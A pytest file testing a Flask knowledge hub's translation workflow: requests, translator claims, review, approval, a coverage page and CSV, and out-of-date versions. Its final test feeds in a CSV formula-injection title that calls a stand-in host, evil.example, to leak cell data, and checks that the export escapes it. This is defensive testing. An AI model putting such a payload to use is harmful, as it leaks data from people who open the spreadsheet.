"""Translations on the web: a request, the translator's queue and workspace, the review
of a language version, the coverage page and its CSV, and out-of-date versions."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from flask import Flask
from sqlalchemy import select

from knowledge_hub.extensions import db
from knowledge_hub.models import AuditEvent
from knowledge_hub.models import Document
from knowledge_hub.models import DocumentStatus
from knowledge_hub.models import VariantStatus
from tests.conftest import sign_in

ATTESTATIONS = [
    "mandate_alignment",
    "member_review",
    "un_disclaimer",
    "logo_use",
    "copyright_cleared",
    "accessible_format",
]
LANGUAGES = ("ar", "zh", "en", "fr", "ru", "es")

TEXT = (
    "The social and solidarity economy brings together cooperatives, mutual societies, "
    "associations and social enterprises that put people and the planet before profit. "
    "This brief explains how local governments can support them with procurement, "
    "finance and training, and how the Task Force follows their work across regions."
)

FRENCH = (
    "L'économie sociale et solidaire rassemble les coopératives, les mutuelles, les "
    "associations et les entreprises sociales qui placent les personnes et la planète avant "
    "le profit. Cette note explique comment les collectivités locales peuvent les soutenir "
    "par la commande publique, le financement et la formation, et comment l'Équipe spéciale "
    "suit leur travail dans toutes les régions du monde."
)

PUBLICATION = dict(
    ref="PB-LOCAL-2024",
    file="brief.txt",
    language="en",
    kind="publication",
    title="Local governments and the social and solidarity economy",
    summary=(
        "How local governments can support cooperatives and other SSE entities with "
        "procurement, finance and training."
    ),
    type="policy-brief",
    date="2024-02",
    organizations="UNRISD;ILO",
    topics="local-development",
    regions="001",
    content=TEXT,
)

MINUTES = dict(
    ref="TF-MIN-2019-03",
    file="minutes.txt",
    language="en",
    kind="archive",
    title="Minutes of the third meeting of the Task Force",
    summary="Minutes of the Task Force meeting on the work plan and the knowledge hub.",
    type="meeting-minutes",
    date="2019-05",
    organizations="ILO",
    topics="local-development",
    content="The Task Force met to agree its work plan and to discuss the knowledge hub. " * 4,
)


def flashes(page: str) -> list[str]:
    return [
        re.sub(r"\s+", " ", html.unescape(m)).strip()
        for m in re.findall(r'class="flash[^"]*"[^>]*>(.*?)</(?:p|div)>', page, re.S)
    ]


@pytest.fixture
def catalogue(app: Flask, criteria, import_rows) -> dict[str, int]:
    """A released publication and a draft archive record: ref -> document id."""
    report = import_rows([PUBLICATION, MINUTES], release=False)
    assert report.failed == 0
    release_after_attesting(app, PUBLICATION["ref"])
    with app.app_context():
        return {d.ref: d.id for d in db.session.scalars(select(Document))}


def release_after_attesting(app: Flask, ref: str) -> int:
    """Attest every criterion of a record as the system and release it; its id."""
    from knowledge_hub.services import review
    from knowledge_hub.services import users

    with app.app_context():
        actor = users.system_user()
        document = db.session.scalar(select(Document).where(Document.ref == ref))
        for code in ATTESTATIONS:
            review.attest(actor, document, code, True)
        review.release(actor, document)
        assert document.status == DocumentStatus.RELEASED
        return document.id


def expected_cells(app: Flask) -> dict[str, dict[str, str]]:
    """The coverage of every record, worked out here from the rows themselves."""
    from knowledge_hub.models import TranslationRequest

    out = {}
    with app.app_context():
        for document in db.session.scalars(select(Document).order_by(Document.ref)):
            requests = {
                r.language: r.status.value
                for r in db.session.scalars(
                    select(TranslationRequest).where(TranslationRequest.document_id == document.id)
                )
                if r.status.value in ("open", "claimed", "submitted")
            }
            cells = {}
            for language in LANGUAGES:
                variant = document.variant_in(language)
                status = variant.status.value if variant else None
                if variant is not None and variant.is_original:
                    cells[language] = "original"
                elif status in ("in_review", "submitted"):
                    cells[language] = "in review"
                elif status == "sent_back":
                    cells[language] = "sent back"
                elif language in requests:
                    cells[language] = {
                        "open": "requested",
                        "claimed": "claimed",
                        "submitted": "in review",
                    }[requests[language]]
                elif status == "approved":
                    if variant.source_revision < document.original_revision:
                        cells[language] = "out of date"
                    elif document.status == DocumentStatus.RELEASED:
                        cells[language] = "released"
                    else:
                        cells[language] = "approved"
                else:
                    cells[language] = "missing"
            out[document.ref] = cells
    return out


def page_cells(page: str) -> dict[str, dict[str, str]]:
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    out = {}
    for row in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        ref = html.unescape(re.search(r"<bdi>(.*?)</bdi>", row).group(1))
        states = re.findall(r'data-state="([^"]*)"', row)
        out[ref] = dict(zip(LANGUAGES, states, strict=True))
    return out


def csv_cells(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return {row["ref"]: {language: row[language] for language in LANGUAGES} for row in rows}


@pytest.mark.slow
def test_a_french_translation_from_request_to_release(app: Flask, catalogue, make_user) -> None:
    document_id = catalogue[PUBLICATION["ref"]]
    staff, french, spanish, reviewer, reader = (app.test_client() for __ in range(5))
    sign_in(staff, make_user("staff"))
    sign_in(french, make_user("translator", languages=("fr",)))
    sign_in(spanish, make_user("translator", languages=("es",)))
    sign_in(reviewer, make_user("reviewer"))

    # Staff see the languages still to cover (not English, the original) and ask for two.
    form = staff.get(f"/translations/request/{document_id}").get_data(as_text=True)
    assert 'value="fr"' in form and 'value="ar"' in form and 'value="en"' not in form
    asked = staff.post(
        f"/translations/request/{document_id}",
        data={
            "languages": ["fr", "ar"],
            "due_on": "2030-01-31",
            "note": "For the regional forum.",
        },
    )
    assert asked.status_code == 302
    assert "Requested" in " ".join(
        flashes(staff.get(asked.headers["Location"]).get_data(as_text=True))
    )
    with app.app_context():
        from knowledge_hub.models import TranslationRequest

        request_id = db.session.scalar(
            select(TranslationRequest.id).where(TranslationRequest.language == "fr")
        )

    # The French translator sees it; the Spanish-only one does not and is refused.
    queue = french.get("/translate/").get_data(as_text=True)
    assert (
        PUBLICATION["title"] in queue
        and "2030-01-31" in queue
        and "For the regional forum." in queue
    )
    assert PUBLICATION["ref"] not in spanish.get("/translate/").get_data(as_text=True)
    assert spanish.post(f"/translate/{request_id}/claim").status_code == 403
    assert spanish.get(f"/translate/{request_id}").status_code == 403
    # Nobody may open the workspace of a request before claiming it.
    assert french.get(f"/translate/{request_id}").status_code == 403

    claimed = french.post(f"/translate/{request_id}/claim")
    assert claimed.status_code == 302 and claimed.headers["Location"].endswith(
        f"/translate/{request_id}"
    )
    assert spanish.get(f"/translate/{request_id}").status_code == 403
    workspace = french.get(f"/translate/{request_id}").get_data(as_text=True)
    assert PUBLICATION["title"] in workspace and PUBLICATION["summary"] in workspace
    assert 'lang="en"' in workspace and 'lang="fr"' in workspace
    with app.app_context():
        file_id = db.session.get(Document, document_id).original.files[0].id
    original = french.get(f"/translate/{request_id}/original/{file_id}")
    assert original.status_code == 200 and original.data == TEXT.encode()
    assert original.headers["Content-Disposition"].startswith("attachment")
    original.close()
    assert spanish.get(f"/translate/{request_id}/original/{file_id}").status_code == 403

    # A delivery without a title is refused and changes nothing.
    refused = french.post(
        f"/translate/{request_id}",
        data={"title": "", "summary": "x"},
        content_type="multipart/form-data",
    )
    assert refused.status_code == 400

    delivered = french.post(
        f"/translate/{request_id}",
        data={
            "title": "Les collectivités locales et l'économie sociale et solidaire",
            "summary": (
                "Comment les collectivités locales peuvent soutenir les coopératives et les "
                "autres entités de l'ESS."
            ),
            "files": [(io.BytesIO(FRENCH.encode()), "note-fr.txt")],
        },
        content_type="multipart/form-data",
    )
    assert delivered.status_code == 302, delivered.get_data(as_text=True)

    # The reviewer finds it waiting and sends it back with a comment.
    waiting = reviewer.get("/translations/review/").get_data(as_text=True)
    assert "Les collectivités locales" in waiting
    checklist = reviewer.get(f"/translations/review/{document_id}/fr").get_data(as_text=True)
    assert "Reviewed by a second speaker of the language" in checklist
    assert PUBLICATION["title"] in checklist and "note-fr.txt" in checklist
    assert (
        reviewer.post(
            f"/translations/review/{document_id}/fr/send-back", data={"comment": ""}
        ).status_code
        == 302
    )
    with app.app_context():
        assert (
            db.session.get(Document, document_id).variant_in("fr").status == VariantStatus.IN_REVIEW
        )
    comment = "Write « Équipe spéciale interinstitutions » in full in the summary."
    reviewer.post(f"/translations/review/{document_id}/fr/send-back", data={"comment": comment})
    with app.app_context():
        assert (
            db.session.get(Document, document_id).variant_in("fr").status == VariantStatus.SENT_BACK
        )

    # The translator sees the comment and delivers again (the file stays).
    mine = html.unescape(french.get("/translate/").get_data(as_text=True))
    assert comment in mine
    assert comment in html.unescape(french.get(f"/translate/{request_id}").get_data(as_text=True))
    again = french.post(
        f"/translate/{request_id}",
        data={
            "title": "Les collectivités locales et l'économie sociale et solidaire",
            "summary": (
                "Comment les collectivités locales peuvent soutenir les coopératives et les "
                "autres entités de l'ESS, selon l'Équipe spéciale interinstitutions des "
                "Nations Unies."
            ),
        },
        content_type="multipart/form-data",
    )
    assert again.status_code == 302, again.get_data(as_text=True)

    # Approval is refused until a second speaker's review is attested.
    reviewer.post(f"/translations/review/{document_id}/fr/approve")
    with app.app_context():
        assert (
            db.session.get(Document, document_id).variant_in("fr").status == VariantStatus.IN_REVIEW
        )
    reviewer.post(
        f"/translations/review/{document_id}/fr/attest/pass",
        data={"code": "second_speaker_review", "comment": "Read by a second French speaker."},
    )
    approved = reviewer.post(f"/translations/review/{document_id}/fr/approve")
    assert "Approved." in flashes(reviewer.get(approved.headers["Location"]).get_data(as_text=True))
    with app.app_context():
        assert (
            db.session.get(Document, document_id).variant_in("fr").status == VariantStatus.APPROVED
        )

    # Readers find the French version on the landing page and in the API.
    landing = html.unescape(reader.get(f"/documents/{document_id}").get_data(as_text=True))
    assert "Les collectivités locales et l'économie sociale et solidaire" in landing
    api = reader.get(f"/api/documents/{document_id}").get_json()
    assert "fr" in [v["language"] for v in api["languages"]]

    # Every step is in the audit trail.
    with app.app_context():
        actions = [
            e.action
            for e in db.session.scalars(
                select(AuditEvent)
                .where(AuditEvent.document_id == document_id)
                .order_by(AuditEvent.id)
            )
        ]
    story = [
        a
        for a in actions
        if a
        in (
            "request_translation",
            "claim_translation",
            "submit_translation",
            "send_back_translation",
            "check",
            "approve_translation",
        )
    ]
    assert story[-8:] == [
        "request_translation",
        "request_translation",
        "claim_translation",
        "submit_translation",
        "send_back_translation",
        "submit_translation",
        "check",
        "approve_translation",
    ]

    # The coverage page and its CSV agree with the database, cell for cell.
    expected = expected_cells(app)
    assert expected[PUBLICATION["ref"]] == {
        "ar": "requested",
        "zh": "missing",
        "en": "original",
        "fr": "released",
        "ru": "missing",
        "es": "missing",
    }
    page = staff.get("/translations/coverage").get_data(as_text=True)
    assert page_cells(page) == expected
    assert csv_cells(staff.get("/translations/coverage.csv").get_data(as_text=True)) == expected
    assert re.search(r'data-count="fr">1<', page) and re.search(r'data-count="en">2<', page)
    # Filters by type, year and organization.
    only = page_cells(
        staff.get("/translations/coverage?type=meeting-minutes").get_data(as_text=True)
    )
    assert list(only) == [MINUTES["ref"]]
    assert list(
        csv_cells(staff.get("/translations/coverage.csv?year=2024").get_data(as_text=True))
    ) == [PUBLICATION["ref"]]
    assert list(
        page_cells(staff.get("/translations/coverage?organization=UNRISD").get_data(as_text=True))
    ) == [PUBLICATION["ref"]]
    # Translators and readers do not see the coverage.
    assert french.get("/translations/coverage").status_code == 403
    assert reader.get("/translations/coverage.csv").status_code == 302

    # Editing the original's title makes the French version out of date.
    from knowledge_hub.services import documents
    from knowledge_hub.services import users

    with app.app_context():
        document = db.session.get(Document, document_id)
        documents.edit_variant(
            users.system_user(),
            document.original,
            "Local governments and the social and solidarity economy (2nd ed.)",
            PUBLICATION["summary"],
        )
    expected = expected_cells(app)
    assert expected[PUBLICATION["ref"]]["fr"] == "out of date"
    assert page_cells(staff.get("/translations/coverage").get_data(as_text=True)) == expected
    assert csv_cells(staff.get("/translations/coverage.csv").get_data(as_text=True)) == expected
    landing = reader.get(f"/documents/{document_id}").get_data(as_text=True)
    assert "translation of an earlier version" in landing
    assert "Out of date" in reviewer.get("/translations/review/").get_data(as_text=True)

    # A reviewer confirms it still holds; the notice goes.
    reviewer.post(
        f"/translations/review/{document_id}/fr/confirm",
        data={"comment": "Only the edition changed."},
    )
    assert "translation of an earlier version" not in reader.get(
        f"/documents/{document_id}"
    ).get_data(as_text=True)
    assert expected_cells(app)[PUBLICATION["ref"]]["fr"] == "released"


@pytest.mark.slow
def test_a_translator_gives_a_request_back(app: Flask, catalogue, make_user) -> None:
    document_id = catalogue[PUBLICATION["ref"]]
    staff, first, second = (app.test_client() for __ in range(3))
    sign_in(staff, make_user("staff"))
    sign_in(first, make_user("translator", languages=("fr",)))
    sign_in(second, make_user("translator", languages=("fr", "es")))
    staff.post(f"/translations/request/{document_id}", data={"languages": ["fr"]})
    with app.app_context():
        from knowledge_hub.models import TranslationRequest

        request_id = db.session.scalar(select(TranslationRequest.id))
    first.post(f"/translate/{request_id}/claim")
    # Claimed by the first: the second neither sees it open nor may open its workspace.
    assert PUBLICATION["title"] not in second.get("/translate/").get_data(as_text=True)
    assert second.get(f"/translate/{request_id}").status_code == 403
    assert second.post(f"/translate/{request_id}/claim").status_code in (302, 403)
    assert second.post(f"/translate/{request_id}/release").status_code == 403
    first.post(f"/translate/{request_id}/release")
    assert PUBLICATION["title"] in second.get("/translate/").get_data(as_text=True)
    # The record's coverage shows it requested again.
    assert expected_cells(app)[PUBLICATION["ref"]]["fr"] == "requested"


@pytest.mark.slow
def test_staff_request_form_refuses_an_empty_choice(app: Flask, catalogue, make_user) -> None:
    document_id = catalogue[PUBLICATION["ref"]]
    staff = app.test_client()
    sign_in(staff, make_user("staff"))
    assert (
        staff.post(f"/translations/request/{document_id}", data={"languages": []}).status_code
        == 400
    )
    translator = app.test_client()
    sign_in(translator, make_user("translator", languages=("fr",)))
    assert translator.get(f"/translations/request/{document_id}").status_code == 403


@pytest.mark.slow
def test_the_coverage_csv_keeps_a_title_that_looks_like_a_formula_as_text(
    app: Flask, import_rows, make_user
) -> None:
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    assert import_rows([dict(ref="+FORMULA", title=title, content="Cooperatives.")]).failed == 0
    client = app.test_client()
    sign_in(client, make_user("staff"))
    rows = list(
        csv.reader(io.StringIO(client.get("/translations/coverage.csv").get_data(as_text=True)))
    )
    [row] = [r for r in rows if r[0].endswith("+FORMULA")]
    assert row[:2] == ["'+FORMULA", "'" + title]
